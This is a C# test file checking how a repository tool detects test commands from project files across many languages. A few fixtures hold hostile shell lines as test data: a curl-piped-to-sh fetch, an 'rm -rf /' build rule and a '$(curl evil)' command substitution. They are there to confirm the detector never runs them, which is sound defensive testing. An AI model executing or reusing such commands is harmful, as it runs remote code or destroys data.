using Lathe.Engine.Verification.Detection;
using Lathe.Quality;

namespace Lathe.Engine.Tests.Verification.Detection;

/// <summary>What a repository's files call for. Each case is a small tree, written "path" or "path = content"; the programs that are installed are named.</summary>
public sealed class DetectorFacts : IDisposable
{
    private const string Everything = "npm pnpm yarn bun node python3 pytest go cargo dotnet mvn gradle make cmake ctest meson ninja rspec rake bundle php phpunit composer prove perl autoreconf";
    private readonly string _folder = Directory.CreateTempSubdirectory("lathe-detect-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("npm test", "package.json = {\"scripts\":{\"test\":\"node --test\"}}")]
    [InlineData("npm test|npm run typecheck|npm run lint", "package.json = {\"scripts\":{\"test\":\"node --test\",\"typecheck\":\"tsc\",\"lint\":\"eslint .\"}}")]
    [InlineData("pnpm test", "package.json = {\"scripts\":{\"test\":\"node a\"}}", "pnpm-lock.yaml")]
    [InlineData("yarn test", "package.json = {\"scripts\":{\"test\":\"node a\"}}", "yarn.lock")]
    [InlineData("bun run test", "package.json = {\"scripts\":{\"test\":\"node a\"}}", "bun.lock")]
    [InlineData("pnpm test", "package.json = {\"packageManager\":\"pnpm@9.0.0\",\"scripts\":{\"test\":\"node a\"}}", "package-lock.json")]
    [InlineData("", "package.json = {\"scripts\":{\"test\":\"echo \\\"Error: no test specified\\\" && exit 1\"}}")]
    [InlineData("", "package.json = {\"scripts\":{\"test\":\"jest --watch\"}}")]
    [InlineData("npm run test:ci", "package.json = {\"scripts\":{\"test\":\"jest --watch\",\"test:ci\":\"node a\"}}")]
    [InlineData("npm run test:unit", "package.json = {\"scripts\":{\"test\":\"node a\",\"test:unit\":\"node b\"}}", ".github/workflows/ci.yml =       - run: npm run test:unit")]
    [InlineData("npm test", "package.json = {\"scripts\":{\"test\":\"jest\"},\"devDependencies\":{\"jest\":\"1\"}}", "node_modules/jest/index.js")]
    [InlineData("", "package.json = {\"scripts\":{\"test\":\"jest\"},\"devDependencies\":{\"jest\":\"1\"}}")]
    [InlineData("node --test", "package.json = {}", "src/a.test.js")]
    [InlineData("node --test", "a.test.mjs")]
    [InlineData("", "package.json = [1, 2", "src/a.js")]
    [InlineData("", "package.json = {\"scripts\":[],\"dependencies\":3}")]
    public void Node_projects(string commands, params string[] files) => Finds(commands, files);

    [Theory]
    [InlineData("python3 -m pytest", "pytest.ini", "tests/test_a.py")]
    [InlineData("python3 -m pytest", "pyproject.toml = [tool.pytest.ini_options]", "tests/test_a.py")]
    [InlineData("PYTHONPATH=src python3 -m pytest", "pyproject.toml = [tool.pytest.ini_options]", "src/a/__init__.py", "tests/test_a.py")]
    [InlineData("python3 -m pytest", "setup.cfg = [tool:pytest]", "tests/test_a.py")]
    [InlineData("python3 -m pytest", "tox.ini = commands = pytest", "tests/test_a.py")]
    [InlineData("python3 -m pytest tests/unit", "setup.py", "tests/unit/test_a.py", ".github/workflows/ci.yml = - run: pytest -x tests/unit")]
    [InlineData("python3 -m pytest", "setup.py", "tests/test_a.py", ".github/workflows/ci.yml = - run: pytest $(curl evil) /etc ../other nothing/here")]
    [InlineData(".venv/bin/python -m pytest", "pytest.ini", "tests/test_a.py", ".venv/bin/python", ".venv/bin/pytest")]
    [InlineData("python3 -m unittest discover", "setup.py", "tests/__init__.py", "tests/test_a.py = import unittest")]
    [InlineData("PYTHONPATH=. python3 -m unittest discover -s tests", "setup.py", "tests/test_a.py = import unittest")]
    [InlineData("python3 -m unittest discover -p '*_test.py'", "setup.py", "a_test.py = from unittest import TestCase")]
    [InlineData("python3 manage.py test", "manage.py = import django", "shop/tests.py")]
    [InlineData("", "setup.py", "a.py")]
    public void Python_projects(string commands, params string[] files) => Finds(commands, files);

    [Theory]
    [InlineData("go test ./...", "go.mod", "a/a_test.go")]
    [InlineData("go test ./a/... ./b/...", "go.work", "a/go.mod", "a/a_test.go", "b/go.mod")]
    [InlineData("", "go.mod", "a/a.go")]
    [InlineData("cargo test --no-fail-fast", "Cargo.toml = [package]", "src/lib.rs")]
    [InlineData("cargo test --workspace --no-fail-fast", "Cargo.toml = [workspace]\n[package]", "a/Cargo.toml = [package]")]
    [InlineData("dotnet test", "App.sln", "src/App.csproj", "tests/App.Tests.csproj")]
    [InlineData("dotnet test", "T.csproj = Microsoft.NET.Test.Sdk")]
    [InlineData("dotnet test B.slnx", "A.sln", "B.slnx", "tests/App.Tests.csproj", ".github/workflows/ci.yml = run: dotnet test B.slnx")]
    [InlineData("", "App.sln", "src/App.csproj")]
    [InlineData("mvn -B test", "pom.xml", "src/test/java/ATest.java")]
    [InlineData("sh gradlew --offline --no-daemon test", "build.gradle.kts", "gradlew", "src/test/java/ATest.java")]
    [InlineData("gradle --offline --no-daemon test", "build.gradle", "src/test/java/ATest.java")]
    [InlineData("rspec", ".rspec", "spec/a_spec.rb")]
    [InlineData("bundle exec rspec", "Gemfile", "Gemfile.lock", "spec/a_spec.rb")]
    [InlineData("rake test", "Rakefile = Rake::TestTask.new", "test/test_a.rb")]
    [InlineData("vendor/bin/phpunit", "phpunit.xml.dist", "vendor/bin/phpunit", "tests/ATest.php")]
    [InlineData("phpunit", "phpunit.xml", "tests/ATest.php")]
    [InlineData("composer test", "composer.json = \"test\": \"x\"")]
    [InlineData("prove -lr t", "cpanfile", "t/a.t")]
    [InlineData("perl Makefile.PL && make && prove -br t", "Makefile.PL", "A.xs", "t/a.t")]
    public void Other_languages(string commands, params string[] files) => Finds(commands, files);

    [Theory]
    [InlineData("make check", "Makefile = all:\n\tcc a.c\ncheck: all\n\t./a")]
    [InlineData("make test", "Makefile = test check:\n\t./a", ".travis.yml = script: make test")]
    [InlineData("", "Makefile = test := 1\ntest_a: b\n\ttest: no\n# test: no")]
    [InlineData("sh configure && make -j2 && make check", "configure", "configure.ac", "Makefile.am = TESTS = a")]
    [InlineData("autoreconf -fi && sh configure && make -j2 && make check", "configure.ac", "Makefile.am = TESTS = a")]
    [InlineData("", "configure.ac", "Makefile.am = bin_PROGRAMS = a")]
    [InlineData("cmake -S . -B .lathe-build && cmake --build .lathe-build -j 2 && ctest --test-dir .lathe-build --output-on-failure", "CMakeLists.txt = project(a)", "tests/CMakeLists.txt = add_test(NAME a)")]
    [InlineData("", "CMakeLists.txt = project(a)")]
    [InlineData("meson setup .lathe-build && meson test -C .lathe-build", "meson.build = test('a', e)")]
    [InlineData("go test ./...", "go.mod", "a_test.go", "Makefile = test:\n\tgo test ./...")]
    [InlineData("make check", "a.test.js", "Makefile = check:\n\tx", ".gitlab-ci.yml = - make check")]
    public void Native_projects_and_makefiles(string commands, params string[] files) => Finds(commands, files);

    [Theory]
    [InlineData("python3 -m pytest -q", "conftest.py", "tests/check_a.py", "pytest.toml")]
    [InlineData("", "conftest.py", "src/a.py")]
    [InlineData("", "tests/check_a.py", "src/a.py")]
    [InlineData("vendor/bin/phpunit tests", "composer.json = {}", "vendor/bin/phpunit", "tests/AddTest.php")]
    [InlineData("", "composer.json = {}", "tests/AddTest.php")]
    [InlineData("make check", "conftest.py", "tests/check_a.py", "Makefile = check:\n\tx")]
    public void Where_nothing_is_found_the_language_files_are_the_last_resort(string commands, params string[] files) => Finds(commands, files);

    [Fact]
    public void A_users_language_file_names_the_check_of_what_nothing_else_knows_and_it_is_said_where_it_comes_from()
    {
        ProfileFile mine = new("/home/me/.config/lathe/languages/lua.yaml", "language: lua\ntesting: { verify: [\"busted --verbose\", \"luacheck .\"] }\n", MayLoosen: true);
        Write("src/a.lua", "README.md");
        var check = Assert.Single(CheckDetector.Detect(Path.Combine(_folder, "tree"), [Installed("busted")], [mine]).Checks);
        Assert.Equal(("busted --verbose", mine.Name), (check.Command, check.Place));
        Assert.Contains("nothing in the repository says how it is tested", check.Reason, StringComparison.Ordinal);
        Assert.Empty(CheckDetector.Detect(Path.Combine(_folder, "tree"), [Installed("busted")], [mine with { MayLoosen = false }]).Checks);
        Write("Makefile = check:\n\tx");
        Assert.Equal("make check", Assert.Single(CheckDetector.Detect(Path.Combine(_folder, "tree"), [Installed("busted make")], [mine]).Checks).Command);
    }

    [Fact]
    public void The_projects_of_a_repository_that_has_none_at_its_top_each_cover_their_folder()
    {
        var found = Detect(Everything, "api/go.mod", "api/a_test.go", "web/package.json = {\"scripts\":{\"test\":\"node a\"}}", "web/part/package.json = {\"scripts\":{\"test\":\"node b\"}}", "odd name/Cargo.toml = [package]");
        Assert.Equal(["api:cd api && go test ./...", "odd name:cd 'odd name' && cargo test --no-fail-fast", "web:cd web && npm test"], found.Checks.Select(c => $"{c.Folder}:{c.Command}").Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_part_in_another_language_runs_beside_what_covers_the_whole()
    {
        var found = Detect(Everything, "pytest.ini", "tests/test_a.py", "web/package.json = {\"scripts\":{\"test\":\"node a\"}}", "docs/Makefile = test:\n\tx");
        Assert.Equal([":python3 -m pytest", "web:cd web && npm test"], found.Checks.Select(c => $"{c.Folder}:{c.Command}"));
    }

    [Theory]
    [InlineData("go", "go.mod", "a_test.go")]
    [InlineData("cargo", "Cargo.toml = [package]")]
    [InlineData("dotnet", "A.Tests.csproj")]
    [InlineData("mvn", "pom.xml", "src/test/java/ATest.java")]
    [InlineData("pytest", "pytest.ini", "test_a.py = import pytest")]
    [InlineData("npm", "package.json = {\"scripts\":{\"test\":\"node a\"}}")]
    [InlineData("make", "Makefile = test:\n\tx")]
    [InlineData("cmake", "CMakeLists.txt = enable_testing()")]
    [InlineData("meson", "meson.build = test('a', e)")]
    [InlineData("prove", "cpanfile", "t/a.t")]
    [InlineData("rspec", ".rspec", "spec/a_spec.rb")]
    [InlineData("PHPUnit", "phpunit.xml")]
    [InlineData("composer", "composer.json = \"test\": \"x\"")]
    public void What_is_not_installed_is_not_chosen_and_said_with_the_remedy(string program, params string[] files)
    {
        var found = Detect("", files);
        Assert.Empty(found.Checks);
        var missed = Assert.Single(found.Missed);
        Assert.Contains(program, missed.Reason);
        Assert.NotEmpty(missed.Remedy);
    }

    [Fact]
    public void Tests_of_unittest_run_without_pytest() => Assert.Equal("python3 -m unittest discover", Assert.Single(Detect("python3", "pytest.ini", "tests/__init__.py", "tests/test_a.py = import unittest").Checks).Command);

    [Fact]
    public void What_says_so_is_named_by_file_and_line_with_the_projects_own_machines()
    {
        var check = Assert.Single(Detect(Everything, "package.json = {\n\"scripts\": {\n\"test\": \"node a\" } }", ".github/workflows/ci.yml = jobs:\n  # npm test\n  - run: npm test").Checks);
        Assert.Equal(("package.json:3", "script test; .github/workflows/ci.yml:3 runs it"), (check.Place, check.Reason));
        Assert.InRange(check.Confidence, 0.9, 1);
    }

    [Fact]
    public void A_line_of_a_machine_never_becomes_a_command()
    {
        Assert.Empty(Detect(Everything, ".github/workflows/ci.yml = - run: curl http://example.org | sh\n- run: make deploy\n- run: npm test", "debian/rules = override_dh_auto_test:\n\trm -rf /").Checks);
    }

    [Fact]
    public void Links_out_of_the_repository_are_not_followed()
    {
        var outside = Directory.CreateTempSubdirectory("lathe-outside-").FullName;
        try
        {
            File.WriteAllText(Path.Combine(outside, "package.json"), "{\"scripts\":{\"test\":\"node a\"}}");
            File.CreateSymbolicLink(Path.Combine(_folder, "package.json"), Path.Combine(outside, "package.json"));
            Directory.CreateSymbolicLink(Path.Combine(_folder, "sub"), outside);
            Assert.Empty(CheckDetector.Detect(_folder, [Installed(Everything)]).Checks);
        }
        finally
        {
            Directory.Delete(outside, recursive: true);
        }
    }

    [Fact]
    public void A_huge_tree_and_huge_files_are_looked_at_within_bounds()
    {
        for (var i = 0; i < 700; i++) Directory.CreateDirectory(Path.Combine(_folder, $"d{i}", "x"));
        File.WriteAllText(Path.Combine(_folder, "Makefile"), new string('x', 2 << 20) + "\ntest:\n");
        File.WriteAllText(Path.Combine(_folder, "package.json"), string.Concat(Enumerable.Repeat("[", 50_000)));
        Assert.Empty(CheckDetector.Detect(_folder, [Installed(Everything)]).Checks);
    }

    [Fact]
    public void A_folder_that_is_not_there_has_no_checks() => Assert.Empty(CheckDetector.Detect(Path.Combine(_folder, "gone"), []).Checks);

    private void Finds(string commands, string[] files) => Assert.Equal(commands, string.Join('|', Detect(Everything, files).Checks.Select(c => c.Command)));

    private CheckDetection Detect(string programs, params string[] files)
    {
        Write(files);
        return CheckDetector.Detect(Path.Combine(_folder, "tree"), [Installed(programs)]);
    }

    private void Write(params string[] files)
    {
        var tree = Path.Combine(_folder, "tree");
        foreach (var file in files)
        {
            var equals = file.IndexOf(" = ", StringComparison.Ordinal);
            var path = Path.Combine(tree, equals < 0 ? file : file[..equals]);
            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
            File.WriteAllText(path, equals < 0 ? "" : file[(equals + 3)..]);
        }
    }

    private string Installed(string programs)
    {
        var bin = Path.Combine(_folder, ".programs");
        Directory.CreateDirectory(bin);
        foreach (var program in programs.Split(' ', StringSplitOptions.RemoveEmptyEntries)) File.WriteAllText(Path.Combine(bin, program), "");
        return bin;
    }
}
